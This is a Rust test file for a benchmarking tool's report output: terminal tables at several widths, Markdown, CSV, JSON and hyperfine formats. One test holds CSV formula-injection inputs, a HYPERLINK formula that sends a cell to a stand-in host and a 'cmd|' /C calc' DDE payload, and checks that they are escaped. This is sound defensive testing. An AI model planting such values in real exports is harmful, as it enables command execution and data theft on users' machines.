use crate::documents::list;
use crate::run::sheet::{self, DrawnSamples};
use crate::run::terminal::report::run_report;
use crate::run::{csv, hyperfine, json};
use crate::run::{fixtures, quiet_fixtures};
use insta::assert_snapshot;
use proptest::prelude::*;
use std::collections::BTreeMap;
use tarebench_core::base::date::TimeZone;
use tarebench_core::base::reading::{Absent, Reading};
use tarebench_core::documents::head::{DocumentKind, Id, Status};
use tarebench_core::run::discards::DiscardReason;
use tarebench_core::run::last_words::LastWords;
use tarebench_core::run::report::data::{Discard, Measure, RunReport};
use tarebench_core::run::samples::{Kept, SampleSource};
use tarebench_core::run::shown::ShownRun;
use tarebench_core::sample::data::Sample;
use tarebench_report::error::{RenderError, SamplesError};
use tarebench_report::markup::Markup;
use tarebench_report::style::{Sort, Style};
use tarebench_report::text::columns;

fn style(width: usize) -> Style {
    Style { width, more: Some("tare show 12 --full".into()), hints: fixtures::hints(), ..Style::default() }
}

fn all() -> Vec<RunReport> {
    vec![
        fixtures::one(),
        fixtures::two(),
        fixtures::waits(),
        fixtures::three(),
        fixtures::ten(),
        fixtures::duets(),
        fixtures::ten_with_duets(),
        fixtures::scan(),
        fixtures::troubled(),
        fixtures::absent(),
        fixtures::hostile(),
        fixtures::report(Vec::new()),
        quiet_fixtures::one(),
        quiet_fixtures::two(),
        quiet_fixtures::three(),
    ]
}

/// At the four widths, in ASCII at the narrowest, with colour at 100.
fn at_widths(name: &str, report: &RunReport) {
    for width in [60, 80, 100, 140] {
        assert_snapshot!(format!("{name}_{width}"), run_report(report, &style(width)));
    }
    let ascii = run_report(report, &Style { unicode: false, ..style(80) });
    assert!(ascii.is_ascii());
    assert_snapshot!(format!("{name}_ascii"), ascii);
    let color = run_report(report, &Style { color: true, ..style(100) });
    assert_eq!(without_sgr(&color), run_report(report, &style(100)));
    assert_snapshot!(format!("{name}_color"), color.replace('\x1b', "ESC"));
}

#[test]
fn one_program() {
    at_widths("one", &fixtures::one());
    assert_snapshot!("one_40", run_report(&fixtures::one(), &style(40)));
    let account = Style { account: true, ..style(100) };
    assert_snapshot!("one_account", run_report(&fixtures::one(), &account));
}

#[test]
fn two_programs() {
    at_widths("two", &fixtures::two());
    assert_snapshot!("two_40", run_report(&fixtures::two(), &style(40)));
    assert_snapshot!("waits_100", run_report(&fixtures::waits(), &style(100)));
    assert_snapshot!("waits_60", run_report(&fixtures::waits(), &style(60)));
}

#[test]
fn several_programs() {
    at_widths("ten", &fixtures::ten());
    at_widths("scan", &fixtures::scan());
    assert_snapshot!("three_100", run_report(&fixtures::three(), &style(100)));
    assert_snapshot!("scan_40", run_report(&fixtures::scan(), &style(40)));
}

/// Four lines a program, and ten programs on a screen of 24 lines, however narrow.
#[test]
fn the_default_output_is_short() {
    for width in [60, 80, 100, 140] {
        let lines = |r: &RunReport| run_report(r, &style(width)).lines().count();
        assert_eq!(lines(&fixtures::one()), 5, "at {width}");
        // The warning takes two lines on the narrower ones.
        let most = if width < 100 { 13 } else { 12 };
        assert!(lines(&fixtures::two()) <= most, "at {width}");
        assert!(lines(&fixtures::ten()) <= 24 && lines(&fixtures::scan()) <= 24, "at {width}");
    }
}

/// Both measures are printed, the larger difference first, and the chosen one leads where they agree.
#[test]
fn measures_that_disagree_are_both_shown() {
    let mut r = fixtures::waits();
    let said = |r: &RunReport| {
        let text = run_report(r, &style(140));
        let lines: Vec<String> = text.lines().filter(|l| l.contains("times as fast")).map(str::to_owned).collect();
        lines
    };
    let lines = said(&r);
    assert!(lines[0].starts_with("by CPU time:     sleep is 48.7 times as fast as factor  [46.2, 50.1]"), "{lines:?}");
    assert!(
        lines[1].starts_with("by elapsed time: factor is 1.675 times as fast as sleep  [1.656, 1.698]"),
        "{lines:?}"
    );
    r.compare_by(Measure::Et).unwrap();
    assert_eq!(said(&r), lines, "the larger difference stays first");
    let mut r = fixtures::two();
    r.compare_by(Measure::Et).unwrap();
    let lines = said(&r);
    assert!(lines[0].contains("xz is 2.44 times as fast as gzip") && lines[0].contains("elapsed time, 10 pairs"));
}

#[test]
fn failures_are_one_line_each() {
    use crate::run::terminal::failed::failed;
    let said = failed(&fixtures::troubled(), &[], &style(100));
    assert_eq!(said.len(), 1);
    assert_eq!(said[0].text, "`flaky --server` failed in warm-up 1: exit status 1 (and 3 more failures)");
    assert_eq!((said[0].series, said[0].at_once), (0, true));
    let hostile = failed(&fixtures::hostile(), &[], &style(100));
    assert_eq!(hostile.len(), 4);
    assert!(hostile.iter().all(|f| !f.text.chars().any(tarebench_report::text::hidden)), "{hostile:?}");
    assert_eq!(failed(&fixtures::one(), &[], &style(100)), []);
    let words = |index, text: &str| LastWords { series: 0, warmup: true, index, text: text.to_owned() };
    let said = failed(&fixtures::troubled(), &[words(1, "of another"), words(0, "no \x1b[2J such file.")], &style(100));
    let expected = "`flaky --server` failed in warm-up 1: exit status 1 (and 3 more failures): no \\x1b[2J such file";
    assert_eq!(said[0].text, expected);
}

/// A program that fails only where it runs beside another one, which nobody asked for, has not failed.
#[test]
fn failures_in_duets_count_where_duets_were_asked_for() {
    use crate::run::terminal::failed::failed;
    use tarebench_core::run::plan::Order;
    use tarebench_core::run::report::data::FailedSample;
    use tarebench_core::sample::data::Outcome;
    let mut r = fixtures::duets();
    let outcome = Outcome::Exited { code: 98 };
    r.series[1].failures =
        vec![FailedSample { index: 0, warmup: false, duet: true, outcome, ignored: false, out_of_memory: None }];
    assert_eq!(failed(&r, &[], &style(100)), []);
    r.run.plan.order = Order::Duet;
    let said = failed(&r, &[], &style(100));
    assert_eq!(said[0].text, "`./inc 60600` failed in duet 1: exit status 98");
}

#[test]
fn the_full_output() {
    let full = |r: &RunReport, width| run_report(r, &Style { full: true, ..style(width) });
    assert_snapshot!("one_full", full(&fixtures::one(), 100));
    assert_snapshot!("one_full_72", full(&fixtures::one(), 72));
    assert_snapshot!("three_full", full(&fixtures::three(), 100));
    assert_snapshot!("troubled_full", full(&fixtures::troubled(), 100));
    assert_snapshot!("hostile_full", full(&fixtures::hostile(), 100));
}

#[test]
fn trouble() {
    assert_snapshot!("troubled_100", run_report(&fixtures::troubled(), &style(100)));
    assert_snapshot!("troubled_60", run_report(&fixtures::troubled(), &style(60)));
    assert_snapshot!("absent_100", run_report(&fixtures::absent(), &style(100)));
    assert_snapshot!("hostile_100", run_report(&fixtures::hostile(), &style(100)));
}

#[test]
fn order_of_rows() {
    let numbers = |sort| {
        let text = run_report(&fixtures::three(), &Style { sort, ..style(120) });
        let first = |l: &str| l.trim_start().split("  ").next().unwrap_or_default().to_owned();
        text.lines().skip(1).take(3).map(first).collect::<Vec<_>>()
    };
    let (one, two, three) = ("sort -n big.txt", "sort -n --parallel=8 big.txt", "gsort -n big.txt");
    assert_eq!(numbers(Sort::Auto), [three, one, two]);
    assert_eq!(numbers(Sort::Command), [one, two, three]);
    assert_eq!(numbers(Sort::MeanTime), [three, one, two]);
}

#[test]
fn documents() {
    assert_snapshot!("markdown", crate::run::markup::markup(&fixtures::three(), Markup::Markdown, None, Sort::Auto));
    assert_snapshot!(
        "markdown_hostile",
        crate::run::markup::markup(&fixtures::hostile(), Markup::Markdown, None, Sort::Auto)
    );
    assert_snapshot!(
        "markdown_absent",
        crate::run::markup::markup(&fixtures::absent(), Markup::Markdown, None, Sort::MeanTime)
    );
    assert_snapshot!(
        "asciidoc",
        crate::run::markup::markup(&fixtures::three(), Markup::Asciidoc, None, Sort::MeanTime)
    );
    let unit = Some(tarebench_report::number::TimeUnit::Second);
    assert_snapshot!("orgmode", crate::run::markup::markup(&fixtures::three(), Markup::Org, unit, Sort::Command));
    assert_snapshot!("csv_series", csv::series(&fixtures::scan()).unwrap());
    assert_snapshot!("csv_series_absent", csv::series(&fixtures::absent()).unwrap());
    assert_snapshot!("csv_samples", csv::samples(&fixtures::one(), &fixtures::samples()).unwrap());
}

/// A spreadsheet would run it.
#[test]
fn a_text_in_csv_is_no_formula() {
    let mut report = fixtures::three();
    let samples = fixtures::samples();
    for (label, cell) in [
        (r#"=HYPERLINK("http://x/?"&A1)"#, r#"'=HYPERLINK(""http://x/?""&A1)"#),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-O2", "'-O2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-inf", "'-inf"),
        ("\t=1", r"\t=1"),
        ("-1.5e3", "-1.5e3"),
        ("a=1", "a=1"),
    ] {
        report.series[0].program.label = label.to_owned();
        report.series[0].program.parameters.insert("p".to_owned(), label.to_owned());
        let beginning = [cell, &format!("\"{cell}\"")].map(|c| format!("{c},"));
        let rows = csv::series(&report).unwrap();
        let row = rows.lines().nth(1).unwrap();
        assert!(beginning.iter().any(|b| row.starts_with(b)), "{label}: {row}");
        assert!(row.ends_with(&format!(",{cell}")) || row.ends_with(&format!(",\"{cell}\"")), "{label}: {row}");
        let rows = csv::samples(&report, &samples).unwrap();
        let row = rows.lines().find(|r| r.starts_with("0,")).unwrap();
        assert!(beginning.iter().any(|b| row.starts_with(&format!("0,{b}"))), "{label}: {row}");
    }
}

#[test]
fn the_full_document_reads_back() {
    for (r, samples) in [(fixtures::troubled(), Vec::new()), (fixtures::hostile(), fixtures::samples())] {
        let text = crate::run::json::full(&r, &samples, &fixtures::hints()).unwrap();
        assert!(!text.trim_end().chars().any(tarebench_report::text::hidden));
        let value: serde_json::Value = serde_json::from_str(&text).unwrap();
        assert_eq!(value["format"], "tare-report");
        assert_eq!(value["version"], 2);
        // Scripts read its text, and whether it is a warning.
        for (remark, written) in r.remarks.iter().zip(value["report"]["remarks"].as_array().unwrap()) {
            assert_eq!(written["text"], crate::run::remarks::text(remark, &fixtures::hints()));
            assert_eq!(written["warning"], remark.warning());
            assert!(written["kind"].is_string() && written.get("series").is_some());
        }
        let outliers = &value["report"]["protocol"]["steps"][4];
        assert_eq!(
            outliers["text"],
            "check 1 not done: no profile (make one with: `tare profile`); check 2 done (s = 2)"
        );
        assert_eq!((&outliers["asks"], &outliers["finding"]["kind"]), (&"outliers removed".into(), &"outliers".into()));
        let back: RunReport = serde_json::from_value(value["report"].clone()).unwrap();
        assert_eq!(back, r);
        let back: Vec<tarebench_core::sample::data::Sample> = serde_json::from_value(value["samples"].clone()).unwrap();
        assert_eq!(back, samples);
    }
}

/// Probes, levels and corrected times are in it as they were found.
#[test]
fn the_full_document_has_the_corrected_times() {
    let (report, samples) = (quiet_fixtures::two(), quiet_fixtures::samples());
    let text = json::full(&report, &samples, &fixtures::hints()).unwrap();
    let value: serde_json::Value = serde_json::from_str(&text).unwrap();
    let back: RunReport = serde_json::from_value(value["report"].clone()).unwrap();
    assert_eq!(back, report);
    let back: Vec<Sample> = serde_json::from_value(value["samples"].clone()).unwrap();
    assert_eq!(back, samples);
    let series = &value["report"]["series"];
    assert_eq!(series[0]["quiet"]["Ok"]["uncorrected"], 294.1e6);
    assert_eq!(series[1]["quiet"]["Err"]["kind"], "more_cpus");
    assert_eq!(series[0]["probes"]["stops"], 42);
    let without = json::full(&fixtures::one(), &[], &fixtures::hints()).unwrap();
    assert!(!without.contains("quiet_levels") && !without.contains("\"probes\""));
    // hyperfine's readers see what was measured.
    let theirs = |r: &RunReport| hyperfine::json(r, &samples).unwrap();
    let mut uncorrected = report.clone();
    uncorrected.series.iter_mut().for_each(|s| s.quiet = None);
    assert_eq!(theirs(&report), theirs(&uncorrected));
}

/// Duets stand beside the samples, with all that was read.
#[test]
fn the_full_document_has_the_duets() {
    let (report, samples, duets) = (fixtures::duets(), fixtures::samples(), fixtures::raw_duets());
    let kept = Kept { samples: &samples, duets: &duets };
    let mut out = Vec::new();
    json::write_full(&mut out, &report, &kept, &fixtures::hints()).map_err(RenderError::from).unwrap();
    let value: serde_json::Value = serde_json::from_slice(&out).unwrap();
    let back: Vec<tarebench_core::compare::duet::Duet> = serde_json::from_value(value["duets"].clone()).unwrap();
    assert_eq!(back, duets);
    assert_eq!(value["samples"].as_array().unwrap().len(), samples.len());
    let c = &value["report"]["comparisons"][0];
    assert_eq!((&c["basis"], &c["duets"]["Ok"]["used"]), (&"duets".into(), &12.into()));
    // Without any the list is empty.
    let none = json::full(&report, &samples, &fixtures::hints()).unwrap();
    let none: serde_json::Value = serde_json::from_str(&none).unwrap();
    assert_eq!(none["duets"], serde_json::json!([]));
    // hyperfine's readers see executions alone.
    let theirs = hyperfine::json(&fixtures::one(), &samples).unwrap();
    assert!(!theirs.contains("duet"));
}

/// Samples whose source looks after each of them how much was written by then; it fails after the last one, if it has to.
struct Watched {
    written: std::rc::Rc<std::cell::Cell<usize>>,
    fails: bool,
}

/// Counts what is written, and fails after this number of bytes.
struct CountingWriter(std::rc::Rc<std::cell::Cell<usize>>, usize);

const WATCHED: u32 = 2_000;
/// More than what a writer may hold back.
const HELD_BACK: usize = 64 << 10;

impl SampleSource for Watched {
    type Error = &'static str;

    fn each(&self, visit: &mut dyn FnMut(&Sample)) -> Result<(), &'static str> {
        let mut sample = fixtures::samples().swap_remove(0);
        for seq in 0..WATCHED {
            (sample.seq, sample.index) = (seq, seq);
            visit(&sample);
            // A row or an element has over 100 bytes.
            assert!(self.written.get() + HELD_BACK > seq as usize * 100, "after sample {seq}: {}", self.written.get());
        }
        if self.fails { Err("no disk") } else { Ok(()) }
    }
}

impl std::io::Write for CountingWriter {
    fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
        if self.0.get() >= self.1 {
            return Err(std::io::Error::from_raw_os_error(28));
        }
        self.0.set(self.0.get() + bytes.len());
        Ok(bytes.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

/// A million samples are never all in memory, and neither are their texts.
#[test]
fn samples_are_written_one_by_one() {
    let (report, hints) = (fixtures::one(), fixtures::hints());
    let write = |form: usize, limit: usize, fails: bool| {
        let source = Watched { written: std::rc::Rc::default(), fails };
        let out = CountingWriter(source.written.clone(), limit);
        match form {
            0 => csv::write_samples(out, &report, &source),
            _ => json::write_full(out, &report, &source, &hints),
        }
        .map(|()| source.written.get())
    };
    for form in [0, 1] {
        assert!(write(form, usize::MAX, false).unwrap() > WATCHED as usize * 100);
        assert!(matches!(write(form, usize::MAX, true), Err(SamplesError::Unread("no disk"))));
    }
    // The writer's own error is the cause. The rest of the samples is read in vain: the source sees nothing of it.
    let source = fixtures::samples();
    let full = |form: usize| -> std::io::Error {
        let out = CountingWriter(std::rc::Rc::default(), 0);
        let error: RenderError = match form {
            0 => csv::write_samples(out, &report, source.as_slice()),
            1 => json::write_full(out, &report, source.as_slice(), &hints),
            _ => hyperfine::write(out, &report, source.as_slice()),
        }
        .unwrap_err()
        .into();
        error.into()
    };
    assert_eq!([0, 1, 2].map(|form| full(form).raw_os_error()), [Some(28); 3]);
}

/// Each sample has its own reasons, whatever the order of both.
#[test]
fn discards_are_those_of_the_sample() {
    let mut report = fixtures::one();
    let mut samples = fixtures::samples();
    samples.truncate(1);
    samples[0].phase = tarebench_core::sample::data::Phase::Counted;
    let first = samples[0].clone();
    samples.extend((1..4).map(|index| Sample { index, seq: 1_000 + index, ..first.clone() }));
    samples[0].index = 0;
    let reason = DiscardReason::Sigma { value: 9.0, low: 1.0, high: 2.0 };
    let sigma = |index, measure| Discard { index, measure, reason: reason.clone() };
    report.series[0].discards = vec![sigma(3, Measure::Et), sigma(1, Measure::Pt), sigma(3, Measure::Pt)];
    let parameters = report.series[0].program.parameters.len();
    let text = csv::samples(&report, &samples).unwrap();
    let ends: Vec<String> = text
        .lines()
        .skip(1)
        .map(|row| {
            let cells: Vec<&str> = row.rsplit(',').skip(parameters).take(3).collect();
            format!("{} {} {}", cells[2], cells[1], cells[0])
        })
        .collect();
    assert_eq!(ends, ["  ", "sigma  ", "  ", "sigma sigma "]);
}

#[test]
fn hyperfine_json() {
    let text = hyperfine::json(&fixtures::one(), &fixtures::samples()).unwrap();
    assert_snapshot!("hyperfine", text);
    let keys = [
        "command",
        "mean",
        "stddev",
        "median",
        "user",
        "system",
        "min",
        "max",
        "times",
        "memory_usage_byte",
        "exit_codes",
    ];
    let at: Vec<usize> = keys.iter().map(|k| text.find(&format!("      \"{k}\": ")).unwrap()).collect();
    assert!(at.is_sorted());
    let value: serde_json::Value = serde_json::from_str(&text).unwrap();
    let result = &value["results"][0];
    assert_eq!(result.as_object().unwrap().len(), keys.len());
    for k in ["mean", "stddev", "median", "user", "system", "min", "max"] {
        assert!(result[k].is_f64(), "{k}");
    }
    assert_eq!(result["times"].as_array().unwrap().len(), 3);
    assert_eq!(result["exit_codes"], serde_json::json!([0, 2, 137]));
    assert!(result["memory_usage_byte"][0].is_u64());
}

#[test]
fn hyperfine_json_where_little_is_known() {
    let mut r = fixtures::scan();
    r.series.truncate(2);
    let mut samples = vec![fixtures::samples().remove(1)];
    samples[0].peak_memory = Reading::Absent(Absent::Failed("x".into()));
    samples[0].process_times = Reading::Absent(Absent::Failed("x".into()));
    let value: serde_json::Value = serde_json::from_str(&hyperfine::json(&r, &samples).unwrap()).unwrap();
    assert_eq!(value["results"].as_array().unwrap().len(), 1);
    let result = &value["results"][0];
    assert!(result["stddev"].is_null() && result["user"].is_null());
    assert!(result.get("memory_usage_byte").is_none());
    assert_eq!(result["parameters"], serde_json::json!({"n": "2"}));
    assert_eq!(hyperfine::json(&r, &[]).unwrap(), "{\n  \"results\": []\n}\n");
}

#[test]
fn lists() {
    let row = |number, status, programs: &[&str]| list::DocumentRow {
        id: Id { kind: DocumentKind::Run, number },
        created: "2025-11-21 01:36".into(),
        status,
        titles: programs.iter().map(|p| (*p).to_owned()).collect(),
        samples: Some(20),
        machine: "box".to_owned(),
        tags: BTreeMap::from([("branch".to_owned(), "main\x1b".to_owned())]),
    };
    let rows = [
        row(12, Status::Finished, &["sort -n big.txt", "gsort -n big.txt"]),
        row(11, Status::Interrupted, &["./target/release/solve --grid 100 --method conjugate-gradient input.dat"]),
        row(9, Status::Unfinished, &["true"]),
        list::DocumentRow {
            id: Id { kind: DocumentKind::Noise, number: 2 },
            samples: None,
            tags: BTreeMap::new(),
            ..row(0, Status::Finished, &["1ms on CPU 1"])
        },
    ];
    assert_snapshot!("list_100", list::table(&rows, &style(100)));
    assert_snapshot!("list_60", list::table(&rows, &style(60)));
    assert_eq!(list::table(&[], &style(60)), "nothing is stored\n");
}

/// Removes SGR sequences; any other control character stays.
fn without_sgr(text: &str) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some((before, after)) = rest.split_once("\x1b[") {
        out.push_str(before);
        let end = after.find(|c: char| !c.is_ascii_digit() && c != ';').unwrap();
        assert!(after[end..].starts_with('m'));
        rest = &after[end + 1..];
    }
    out.push_str(rest);
    out
}

fn check(text: &str, s: &Style) {
    let text = if s.color { without_sgr(text) } else { text.to_owned() };
    assert!(!text.chars().any(|c| c != '\n' && tarebench_report::text::hidden(c)), "{text:?}");
    assert!(s.unicode || text.is_ascii(), "{text:?}");
    for l in text.lines() {
        assert!(columns(l) <= s.width.max(40), "{} columns: {l:?}", columns(l));
        assert_eq!(l.trim_end(), l);
    }
    assert!(text.ends_with('\n') && !text.ends_with("\n\n"));
}

#[test]
fn every_width_and_style() {
    for r in all() {
        for width in (20..140).step_by(3) {
            for bits in 0..8 {
                let s =
                    Style { width, color: bits & 1 != 0, unicode: bits & 2 != 0, full: bits & 4 != 0, ..style(width) };
                check(&run_report(&r, &s), &s);
            }
        }
    }
}

fn value() -> impl Strategy<Value = f64> {
    prop_oneof![
        (0.0..13.0f64).prop_map(|e| 10f64.powf(e)),
        Just(0.0),
        Just(f64::NAN),
        Just(f64::INFINITY),
        Just(-1e9),
        Just(f64::MAX),
    ]
}

#[test]
fn no_sample_number_is_too_large() {
    let mut r = fixtures::one();
    assert!(!r.series[0].discards.is_empty());
    r.series[0].discards.iter_mut().for_each(|d| d.index = u32::MAX);
    let mut samples = fixtures::samples();
    samples.iter_mut().for_each(|s| s.index = u32::MAX);
    let Ok(shown) = ShownRun::read(&r.run, samples.as_slice());
    let drawn = DrawnSamples { shown: &shown, clusters: &[] };
    let page = sheet::run(&r, Some(drawn), &fixtures::hints(), &TimeZone::UTC, String::new()).into_page();
    assert!(serde_json::to_string(&page).unwrap().contains("4294967296"), "numbers are shown from 1");
    assert!(run_report(&r, &Style { full: true, ..style(100) }).contains("4294967296"));
}

proptest! {
    #[test]
    fn nothing_is_wider_than_the_terminal(
        labels in proptest::collection::vec("\\PC{0,80}|.{0,400}|[a-z \\x1b\\n]{0,30}", 1..6),
        mean in value(), sd in value(), n in 0u32..200, width in 60usize..130,
        color in any::<bool>(), unicode in any::<bool>(), full in any::<bool>(), compared in any::<bool>(),
    ) {
        let series: Vec<_> = labels
            .iter()
            .map(|l| fixtures::series(l, fixtures::measure(mean, sd, n, n / 3, n / 4), fixtures::measure(sd, mean, n, 0, 0)))
            .collect();
        let mut r = fixtures::report(series);
        for i in 1..labels.len() as u32 {
            if compared {
                r.comparisons.push(fixtures::comparison(i, mean, sd, mean, tarebench_core::compare::ratio::Verdict::Faster));
            }
            r.series[i as usize].daemons[0].family = labels[i as usize].clone();
            r.series[i as usize].difference.steal = Reading::Absent(Absent::Failed(labels[0].clone()));
        }
        let s = Style { width, color, unicode, full, ..Style::default() };
        check(&run_report(&r, &s), &s);
        let rows = [list::DocumentRow {
            id: Id { kind: DocumentKind::Profile, number: 1 }, created: labels[0].clone(), status: Status::Finished,
            titles: labels.clone(), samples: Some(u64::from(n)), machine: labels[0].clone(), tags: BTreeMap::from([(labels[0].clone(), labels[0].clone())]),
        }];
        check(&list::table(&rows, &s), &s);
        for text in [
            crate::run::markup::markup(&r, Markup::Markdown, None, Sort::Auto), crate::run::markup::markup(&r, Markup::Asciidoc, None, Sort::Auto),
            crate::run::markup::markup(&r, Markup::Org, None, Sort::Auto), csv::series(&r).unwrap(),
        ] {
            prop_assert!(!text.chars().any(|c| c != '\n' && tarebench_report::text::hidden(c)));
        }
        let table = crate::run::markup::markup(&r, Markup::Org, None, Sort::Auto);
        prop_assert_eq!(table.lines().count(), labels.len() + 2);
        prop_assert!(table.lines().skip(2).all(|l| l.matches('|').count() == 8));
    }
}
